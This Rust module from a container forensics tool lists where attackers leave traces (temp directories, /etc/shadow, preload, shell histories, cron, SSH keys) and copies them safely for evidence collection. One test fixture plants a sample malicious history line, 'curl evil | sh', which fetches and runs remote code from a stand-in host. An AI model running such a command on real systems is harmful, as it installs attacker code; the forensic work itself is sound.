//! The places attackers use, from the container forensics checklist, and copying them all.

use crate::rootfs::copy::{self, Copier, CopyOptions, CopyStats};
use crate::rootfs::error::RootError;
use crate::rootfs::root::{RootFs, components};
use crate::rootfs::sys;
use crate::sink::Sink;
use rustix::fd::AsFd;

/// One place to collect, as an absolute path inside the container.
#[derive(Debug, Clone, Copy, PartialEq, Eq)]
pub enum Place {
    /// A directory: everything under it ([`copy::copy_tree`]).
    Dir(&'static str),
    /// A single file ([`copy::copy_file`]).
    File(&'static str),
    /// A pattern where `*` and `?` match within one component (never `/`); each match is copied
    /// as a directory or a file, whichever it is. Directories are listed safely to expand it.
    Glob(&'static str),
}

/// What responders look at first in a compromised container (the checklist's `ls -la` of the
/// temporary directories, account files, preload, shell histories, cron and SSH keys).
pub const ATTACKER_PLACES: &[Place] = &[
    Place::Dir("/tmp"),
    Place::Dir("/var/tmp"),
    Place::Dir("/dev/shm"),
    Place::Dir("/run"),
    Place::File("/etc/passwd"),
    Place::File("/etc/shadow"),
    Place::File("/etc/group"),
    Place::File("/etc/ld.so.preload"),
    Place::File("/root/.bash_history"),
    Place::File("/root/.ssh/authorized_keys"),
    Place::Dir("/var/spool/cron"),
    Place::Glob("/etc/cron*"),
    Place::Glob("/home/*/.bash_history"),
    Place::Glob("/home/*/.ssh/authorized_keys"),
];

/// Whether the absolute container path `path` lies in one of `places`: a place's file, anything
/// under a place's directory, or under (or at) a path a glob matches. The one rule for "is this
/// an attacker place" when the places are not copied from a live root (offline collection copies
/// them from the merged view of the layers).
pub fn covers(places: &[Place], path: &[u8]) -> bool {
    let comps = |p: &[u8]| -> Vec<Vec<u8>> {
        p.split(|&b| b == b'/')
            .filter(|c| !c.is_empty())
            .map(<[u8]>::to_vec)
            .collect()
    };
    let have = comps(path);
    places.iter().any(|place| match place {
        Place::File(p) => comps(p.as_bytes()) == have,
        Place::Dir(p) => have.starts_with(&comps(p.as_bytes())),
        Place::Glob(p) => {
            let pat = comps(p.as_bytes());
            pat.len() <= have.len() && pat.iter().zip(&have).all(|(g, n)| glob_match(g, n))
        }
    })
}

/// Most paths one glob may expand to.
const MAX_MATCHES: usize = 10_000;

/// Copies every place into `sink`, each file as `prefix` + its container path (components
/// escaped), e.g. `files/etc/passwd`, `files/tmp/x`. Places that do not exist are skipped;
/// limits in `opts` apply to each place separately.
///
/// # Errors
/// Only when the sink fails to store a member.
pub fn copy_places(
    root: &RootFs,
    places: &[Place],
    prefix: &str,
    sink: &mut dyn Sink,
    opts: &CopyOptions,
) -> Result<CopyStats, RootError> {
    let prefix = copy::normalized(prefix);
    let mut total = CopyStats::default();
    for place in places {
        match place {
            Place::Dir(p) => total.add(&copy_dir(root, p.as_bytes(), &prefix, sink, opts)?),
            Place::File(p) => total.add(&copy_single(root, p.as_bytes(), &prefix, sink, opts)?),
            Place::Glob(pattern) => {
                for path in expand(root, pattern.as_bytes(), sink, &mut total) {
                    let is_dir = root.lstat(&path).ok().flatten().is_some_and(|s| s.is_dir());
                    let stats = if is_dir {
                        copy_dir(root, &path, &prefix, sink, opts)?
                    } else {
                        copy_single(root, &path, &prefix, sink, opts)?
                    };
                    total.add(&stats);
                }
            }
        }
    }
    Ok(total)
}

fn copy_dir(
    root: &RootFs,
    path: &[u8],
    prefix: &str,
    sink: &mut dyn Sink,
    opts: &CopyOptions,
) -> Result<CopyStats, RootError> {
    let original = crate::rootfs::json::absolute(path);
    let name = forensic_evidence::paths::copy_member(prefix, &original, &original);
    copy::copy_tree(root, path, &name, sink, opts)
}

fn copy_single(
    root: &RootFs,
    path: &[u8],
    prefix: &str,
    sink: &mut dyn Sink,
    opts: &CopyOptions,
) -> Result<CopyStats, RootError> {
    let original = crate::rootfs::json::absolute(path);
    let mut c = Copier::new(sink, opts);
    copy::copy_one(
        root,
        path,
        forensic_evidence::paths::copy_member(prefix, &original, &original),
        &mut c,
    )?;
    Ok(c.stats)
}

/// The existing paths (relative to the root) matching `pattern`, in sorted order. Directories on
/// the way are opened without following symlinks; a symlinked or unreadable one matches nothing.
fn expand(root: &RootFs, pattern: &[u8], sink: &mut dyn Sink, stats: &mut CopyStats) -> Vec<Vec<u8>> {
    let Ok(comps) = components(pattern) else {
        return Vec::new();
    };
    let mut paths: Vec<Vec<u8>> = vec![Vec::new()];
    for comp in comps {
        let mut next = Vec::new();
        for base in &paths {
            if !comp.iter().any(|&b| b == b'*' || b == b'?') {
                next.push(copy::joined(base, comp));
                continue;
            }
            let Ok(fd) = root.open_dir(base) else { continue };
            let Ok((names, more)) = sys::read_names(fd.as_fd(), MAX_MATCHES as u64) else {
                continue;
            };
            if more {
                stats.gaps += 1;
                sink.gap(
                    crate::rootfs::error::display_path(&crate::rootfs::json::absolute(base)),
                    format!(
                        "more than {MAX_MATCHES} entries: only the first were matched against {}",
                        String::from_utf8_lossy(pattern)
                    ),
                );
            }
            for i in 0..names.len() {
                if let Some(name) = names.get(i).filter(|n| glob_match(comp, n)) {
                    next.push(copy::joined(base, name));
                }
            }
        }
        next.truncate(MAX_MATCHES);
        paths = next;
    }
    // Only what exists (a missing literal tail is simply not there).
    paths.retain(|p| !p.is_empty() && root.lstat(p).ok().flatten().is_some());
    paths
}

/// `*` matches any run of bytes, `?` one byte; everything else itself.
fn glob_match(pat: &[u8], name: &[u8]) -> bool {
    let (mut p, mut n) = (0usize, 0usize);
    let mut star: Option<(usize, usize)> = None;
    while n < name.len() {
        match pat.get(p) {
            Some(b'*') => {
                star = Some((p, n));
                p += 1;
            }
            Some(&c) if c == b'?' || Some(&c) == name.get(n) => {
                p += 1;
                n += 1;
            }
            _ => match star {
                Some((sp, sn)) => {
                    p = sp + 1;
                    n = sn + 1;
                    star = Some((sp, sn + 1));
                }
                None => return false,
            },
        }
    }
    pat.get(p..).unwrap_or_default().iter().all(|&c| c == b'*')
}

#[cfg(test)]
mod tests {
    use super::*;
    use crate::sink::MemorySink;

    #[test]
    fn globs_match_within_a_component() {
        assert!(glob_match(b"cron*", b"cron.d"));
        assert!(glob_match(b"cron*", b"cron"));
        assert!(glob_match(b"*", b".hidden"));
        assert!(glob_match(b"a?c", b"abc"));
        assert!(glob_match(b"*.d", b"cron.d"));
        assert!(glob_match(b"*a*b", b"xxaxxb"));
        assert!(!glob_match(b"cron*", b"anacrontab"));
        assert!(!glob_match(b"a?c", b"ac"));
    }

    #[test]
    fn a_path_is_covered_by_a_file_a_directory_or_a_glob() {
        for yes in [
            &b"/etc/shadow"[..],
            b"/tmp",
            b"/tmp/a/b",
            b"/etc/cron.d/evil",
            b"/etc/crontab",
            b"/home/alice/.ssh/authorized_keys",
        ] {
            assert!(covers(ATTACKER_PLACES, yes), "{}", String::from_utf8_lossy(yes));
        }
        for no in [
            &b"/etc/shadow-"[..],
            b"/etc",
            b"/tmpx",
            b"/usr/bin/app",
            b"/home/alice/.ssh/known_hosts",
            b"/etc/anacrontab",
        ] {
            assert!(!covers(ATTACKER_PLACES, no), "{}", String::from_utf8_lossy(no));
        }
    }

    #[test]
    fn attacker_places_are_copied_and_globs_expanded() {
        let t = tempfile::tempdir().unwrap();
        let r = t.path();
        for d in [
            "tmp",
            "etc/cron.d",
            "home/alice/.ssh",
            "home/bob",
            "var/spool/cron/crontabs",
        ] {
            std::fs::create_dir_all(r.join(d)).unwrap();
        }
        std::fs::write(r.join("tmp/x.sh"), b"#!/bin/sh\n").unwrap();
        std::fs::write(r.join("etc/passwd"), b"root:x:0:0\n").unwrap();
        std::fs::write(r.join("etc/crontab"), b"* * * * * root x\n").unwrap();
        std::fs::write(r.join("etc/cron.d/evil"), b"* * * * * root y\n").unwrap();
        std::fs::write(r.join("home/alice/.bash_history"), b"curl evil | sh\n").unwrap();
        std::fs::write(r.join("home/alice/.ssh/authorized_keys"), b"ssh-ed25519 AAAA\n").unwrap();
        std::fs::write(r.join("var/spool/cron/crontabs/root"), b"@reboot z\n").unwrap();
        // bob's home is a symlink to the host's root: nothing of it is read.
        std::fs::remove_dir(r.join("home/bob")).unwrap();
        std::os::unix::fs::symlink("/root", r.join("home/bob")).unwrap();
        let root = RootFs::open(r).unwrap();
        let mut sink = MemorySink::default();
        let stats = copy_places(&root, ATTACKER_PLACES, "files", &mut sink, &CopyOptions::default()).unwrap();
        let mut names: Vec<&str> = sink.members.iter().map(|(m, _, _)| m.name.as_str()).collect();
        names.sort_unstable();
        assert_eq!(
            names,
            [
                "files/etc/cron.d/evil",
                "files/etc/crontab",
                "files/etc/passwd",
                "files/home/alice/.bash_history",
                "files/home/alice/.ssh/authorized_keys",
                "files/tmp/x.sh",
                "files/var/spool/cron/crontabs/root",
            ]
        );
        assert_eq!(stats.files, 7);
        assert_eq!(sink.content("files/etc/cron.d/evil"), Some(&b"* * * * * root y\n"[..]));
    }
}
